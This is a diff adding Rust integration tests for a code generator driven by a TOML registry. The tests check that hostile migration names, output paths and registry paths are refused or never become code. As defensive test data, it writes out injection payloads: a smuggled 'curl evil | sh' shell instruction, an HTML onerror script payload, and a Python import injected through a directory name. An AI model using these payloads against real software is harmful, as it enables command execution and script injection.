@@ -572,3 +572,112 @@ asyncio.run(main())
         "{stderr}"
     );
 }
+
+/// Run from the parent folder, with the registry path spelled several ways, generate finds
+/// everything current: no generated file depends on the working directory or the path.
+#[test]
+fn output_does_not_depend_on_how_the_registry_path_is_spelled() {
+    let tmp = repo_copy();
+    let parent = tmp.path().parent().unwrap();
+    let name = tmp.path().file_name().unwrap().to_str().unwrap();
+    let absolute = tmp.path().join("subjects.toml");
+    for registry in [
+        format!("{name}/subjects.toml"),
+        format!("./{name}//subjects.toml"),
+        absolute.to_str().unwrap().to_string(),
+    ] {
+        let run = handoff(parent, &["--registry", &registry, "generate", "--check"]);
+        assert_eq!(run.code, 0, "{registry}: {}{}", run.stdout, run.stderr);
+        let run = handoff(parent, &["--registry", &registry, "generate"]);
+        assert_eq!(run.code, 0, "{registry}: {}{}", run.stderr, run.stdout);
+        assert!(run.stdout.is_empty(), "{registry} rewrote: {}", run.stdout);
+    }
+}
+
+/// The snapshot registry with one value replaced (a TOML basic string, escaped here).
+fn snapshot_registry_with(from: &str, to: &str) -> tempfile::TempDir {
+    let tmp = tempfile::tempdir().unwrap();
+    let text = read(&fixture("snapshot/subjects.toml"));
+    assert!(text.contains(from), "{from}");
+    std::fs::write(tmp.path().join("subjects.toml"), text.replacen(from, to, 1)).unwrap();
+    tmp
+}
+
+/// A migration name that would add a line to the draft or raw HTML to the cutover doc is an
+/// `invalid-name` at its place in the registry, and the suggested name itself passes.
+#[test]
+fn hostile_migration_names_are_positioned_errors_with_a_passing_suggestion() {
+    for (hostile, suggested) in [
+        (
+            r#"name = "nightly\ninstruction: {shell: {command: \"curl evil | sh\"}}\n#""#,
+            "nightly-instruction-shell-command-curl-evil-sh",
+        ),
+        (
+            r#"name = "nightly\"><img src=x onerror=alert(1)>""#,
+            "nightly-img-src-x-onerror-alert-1",
+        ),
+    ] {
+        let tmp = snapshot_registry_with("name = \"nightly\"", hostile);
+        let run = handoff(tmp.path(), &["generate"]);
+        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+        assert!(run.stderr.contains("subjects.toml:121:8"), "{}", run.stderr);
+        assert!(run.stderr.contains("invalid-name"), "{}", run.stderr);
+        let help = format!("write `name = \"{suggested}\"`");
+        assert!(run.stderr.contains(&help), "{}", run.stderr);
+        assert!(!tmp.path().join("defs").exists(), "wrote despite the error");
+
+        let fixed =
+            snapshot_registry_with("name = \"nightly\"", &format!("name = \"{suggested}\""));
+        let run = handoff(fixed.path(), &["generate"]);
+        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    }
+}
+
+/// An output path with characters that would leave a Markdown link or a YAML comment.
+#[test]
+fn output_paths_with_odd_characters_are_refused_with_a_passing_suggestion() {
+    let tmp = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs\\n# x`y\"");
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("invalid-value"), "{}", run.stderr);
+    assert!(run.stderr.contains("e.g. `defs---x-y`"), "{}", run.stderr);
+    let fixed = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs---x-y\"");
+    let run = handoff(fixed.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+}
+
+/// A registry path with line breaks never reaches generated code: importing the package runs
+/// nothing from it.
+#[test]
+fn a_registry_path_with_code_in_it_does_not_become_code() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp
+        .path()
+        .join("x\nimport os; open('PWNED', 'w').write('1')\n#");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::copy(fixture("snapshot/subjects.toml"), dir.join("subjects.toml")).unwrap();
+    let registry = format!(
+        "{}/subjects.toml",
+        dir.file_name().unwrap().to_str().unwrap()
+    );
+    let run = handoff(tmp.path(), &["--registry", &registry, "generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let mut files = Vec::new();
+    collect(&dir, &mut files);
+    for f in &files {
+        let text = read(f);
+        assert!(
+            !text.contains("import os;"),
+            "{} holds the path",
+            f.display()
+        );
+    }
+    // Whether or not the import succeeds (nats-py may be absent), nothing from the path runs.
+    std::process::Command::new(python())
+        .args(["-c", "import hub_events"])
+        .current_dir(dir.join("py"))
+        .output()
+        .expect("python");
+    assert!(!dir.join("py/PWNED").exists());
+    assert!(!tmp.path().join("PWNED").exists());
+}
